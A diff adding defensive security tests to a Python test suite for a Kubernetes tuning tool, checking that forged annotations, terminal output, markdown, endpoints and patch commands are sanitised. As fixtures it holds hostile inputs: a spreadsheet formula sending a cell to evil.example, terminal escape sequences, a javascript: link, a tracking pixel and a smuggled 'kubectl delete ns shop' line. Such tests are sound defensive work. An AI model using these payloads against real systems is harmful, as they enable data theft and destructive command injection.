@@ -4,19 +4,44 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from dataclasses import replace
 from pathlib import Path
+from types import SimpleNamespace
+from typing import Any, cast
 
 import msgspec
 import pytest
+from pydantic import ValidationError
+from rich.console import Console
+from rich.text import Text
 
 import trimtab
 from harness.builders.records import workload
+from scan.scans import scan_result
 from store.builders import entry
+from trimtab.actuation.change_annotations import (
+    ChangeAnnotations,
+    OngoingChange,
+    Phase,
+    RevertRecord,
+    UpdateMethod,
+    decode_change_annotations,
+    encode_change_annotations,
+)
+from trimtab.actuation.decide.health import PodHealth
+from trimtab.api.kpiprofile import KPIProfileSpec
 from trimtab.atomic_write import check_file_name
+from trimtab.cli._common.scan_options import render_text
 from trimtab.cli.history import _render_csv
 from trimtab.csv_cells import escape_cells
 from trimtab.errors import TrimtabError
+from trimtab.kube.kinds.workloads import WorkloadKey
+from trimtab.scan.model import SkippedWorkload
+from trimtab.scan.patches import render as patch_rendering
+from trimtab.scan.patches.change import ResourceChange
 from trimtab.scan.patches.patch_folder import build_file_name
+from trimtab.scan.render.markdown import render_markdown
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example?"&A1)',
@@ -65,3 +90,79 @@ def test_file_name_of_an_object_cannot_leave_its_folder(name: str) -> None:
 
 def test_file_name_of_a_real_object_is_kept() -> None:
     assert check_file_name("shop.deployment.web-1.example.yaml") == "shop.deployment.web-1.example.yaml"
+
+
+FORGED = "evil\x1b[2J\x1b]0;owned\x07\n---\r" * 200
+
+
+@pytest.mark.parametrize("record", ["reverted", "change"])
+def test_texts_of_forged_annotations_are_short_and_printable(record: str) -> None:
+    """They reach statuses, Events and the history."""
+    stated: dict[str, Any] = {
+        "reverted": RevertRecord(id=FORGED, at=1, why=FORGED, times=1, until=2),
+        "change": OngoingChange(
+            id=FORGED,
+            started=1,
+            method=UpdateMethod.IN_PLACE,
+            template={},
+            health=PodHealth(pods=1),
+            before={},
+            after={},
+            phase=Phase.PROMOTING,
+            since=1,
+            reason=FORGED,
+            abandon_reason=FORGED,
+        ),
+    }
+    written = encode_change_annotations(ChangeAnnotations(**{record: stated[record]}), uid="u")
+    read = decode_change_annotations(written, uid="u")
+    assert isinstance(read, ChangeAnnotations)
+    found = getattr(read, record)
+    for name in ("id", "why", "reason", "abandon_reason"):
+        text = getattr(found, name, "evil")
+        assert text.startswith("evil")
+        assert text.isprintable()
+        assert len(text) <= 1000
+
+
+@pytest.mark.parametrize("is_terminal", [False, True])
+def test_rendered_text_of_others_cannot_control_a_terminal(
+    monkeypatch: pytest.MonkeyPatch, *, is_terminal: bool
+) -> None:
+    monkeypatch.setattr(Console, "is_terminal", is_terminal)
+    text = render_text(
+        lambda _: [Text("fine\nmore", style="bold"), Text(FORGED[:40]), FORGED[:40]], to_file=False
+    )
+    styles = re.compile(r"\x1b\[[0-9;]*m")
+    assert styles.sub("", text).replace("\n", "").isprintable()
+    assert text.startswith("\x1b[1m" if is_terminal else "fine\nmore\n")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["![x](http://evil.example/pixel)", "[click](javascript:alert(1))", "@everyone", "`code`", "<img src=x>", "**big**", "a|b",
+     "\\`code\\`", "a\n# heading"],
+)  # fmt: skip
+def test_markdown_of_a_scan_quotes_texts_of_others_literally(text: str) -> None:
+    skipped = SkippedWorkload(WorkloadKey("Deployment", "shop", "web"), text)
+    rendered = render_markdown(replace(scan_result(), skipped=(skipped,)), top=1)
+    (line,) = [line for line in rendered.splitlines() if line.startswith("- shop/Deployment/web: ")]
+    quoted = line.partition(": ")[2]
+    bare = re.sub(r"\\[\\`*\[\]|~]", "", quoted)
+    assert not re.search(r"[`*\[\]|<\\]|@\w", bare)
+
+
+@pytest.mark.parametrize(
+    "endpoint", ["http://a\x1b[2J.b/", "http://a.b/\n", "http://a.b/\x00", "http://a b", "http://é.b"]
+)
+def test_endpoint_of_a_profile_with_control_characters_is_refused(endpoint: str) -> None:
+    with pytest.raises(ValidationError, match="endpoint must be a URL"):
+        KPIProfileSpec.model_validate({"type": "custom", "query": "x", "props": {"endpoint": endpoint}})
+
+
+def test_command_of_a_patch_has_no_line_of_others() -> None:
+    change = SimpleNamespace(basis="a\nkubectl delete ns shop", confidence="low")
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setattr(patch_rendering, "_render_kubectl", lambda _: "kubectl")
+        rendered = patch_rendering.render_command(cast("ResourceChange", change))
+    assert rendered.splitlines() == ["# a\\nkubectl delete ns shop", "kubectl"]
